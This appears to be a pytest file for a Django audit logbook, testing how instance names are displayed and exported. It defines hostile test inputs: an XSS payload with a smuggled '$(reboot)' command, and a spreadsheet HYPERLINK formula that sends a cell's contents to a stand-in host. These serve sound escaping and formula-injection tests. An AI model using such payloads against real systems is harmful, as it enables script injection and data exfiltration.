"""The Logbook names instances beside their ids: on its page, in its htmx results and in its exports.

Names are today's, from the inventory (a renamed instance shows its new name); an id the
inventory never knew is shown alone. A Name tag is hostile: escaped on the page, JSON in the exports.
"""

from __future__ import annotations

import csv
import html
import io
import json

import pytest
from django.utils import timezone

from audit.models import LogbookEntry
from audit.services import logbook_append
from requests_app.models import Instance
from tests.audit.conftest import signed_in
from tests.audit.test_exports import body, jsonl
from tests.conftest import World
from tests.factories import make_instance

pytestmark = pytest.mark.django_db

URL = "/logbook/"
HOSTILE = '"><img src=x onerror=alert(1)>$(reboot)'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def entry(world: World) -> LogbookEntry:
    return logbook_append(
        action="grant.ready",
        actor=None,
        account=world.prod,
        request_id=7,
        instance_ids=[world.web.instance_id, world.db.instance_id, "i-0000000000000dead"],
    )


def _names_in_row(content: str, entry: LogbookEntry) -> str:
    row = content.split(f'<tr id="entry-{entry.pk}">', 1)[1].split("</tr>", 1)[0]
    return row.split('class="logbook-instances">', 1)[1].split("</td>", 1)[0]


def test_the_page_names_each_instance_beside_its_id(world: World, entry: LogbookEntry) -> None:
    cell = _names_in_row(signed_in(world.auditor).get(URL).content.decode(), entry)

    assert cell.count('data-testid="logbook-instance"') == 3
    for instance in (world.web, world.db):
        assert (
            f'title="Only this instance">{instance.instance_id}</a>'
            '<span class="muted small logbook-instance-name cloud-text"' in cell
        )
        assert f'data-testid="logbook-instance-name">{instance.name}</span>' in cell
    # The inventory never knew this one: its id alone.
    assert 'title="Only this instance">i-0000000000000dead</a></span>' in cell


def test_a_renamed_or_gone_instance_shows_todays_name_and_a_hostile_name_is_escaped(
    world: World, entry: LogbookEntry
) -> None:
    Instance.objects.filter(pk=world.web.pk).update(name=HOSTILE)
    Instance.objects.filter(pk=world.db.pk).update(name="db-renamed", gone_at=timezone.now())

    content = signed_in(world.auditor).get(URL).content.decode()
    partial = signed_in(world.auditor).get(URL, HTTP_HX_REQUEST="true").content.decode()

    for page in (content, partial):
        cell = _names_in_row(page, entry)
        assert HOSTILE not in page and "<img" not in cell
        assert f'data-testid="logbook-instance-name">{html.escape(HOSTILE)}</span>' in cell
        assert 'data-testid="logbook-instance-name">db-renamed</span>' in cell
        assert "db-1" not in cell


def test_an_instance_id_in_two_accounts_takes_the_present_ones_name(world: World, entry: LogbookEntry) -> None:
    make_instance(world.staging, "old-web", instance_id=world.web.instance_id, gone_at=timezone.now())

    cell = _names_in_row(signed_in(world.auditor).get(URL).content.decode(), entry)

    assert 'logbook-instance-name">web-1</span>' in cell and "old-web" not in cell


def test_the_exports_carry_the_names_as_json(world: World, entry: LogbookEntry) -> None:
    Instance.objects.filter(pk=world.web.pk).update(name=FORMULA)
    expected = {world.web.instance_id: FORMULA, world.db.instance_id: "db-1"}
    client = signed_in(world.auditor)

    rows = list(csv.DictReader(io.StringIO(body(client.get("/logbook/export.csv")))))
    records = jsonl(client.get("/logbook/export.jsonl"))

    [row] = [row for row in rows if row["id"] == str(entry.pk)]
    assert json.loads(row["instance_names"]) == expected
    # A Name tag that is a formula stays text: the cell starts with "{", never with = + - @.
    assert row["instance_names"].startswith('{"')
    [record] = [record for record in records if record["id"] == entry.pk]
    assert record["instance_names"] == expected
    others = [record for record in records if record["id"] != entry.pk]
    assert all(record["instance_names"] == {} for record in others if not record["instance_ids"].strip())
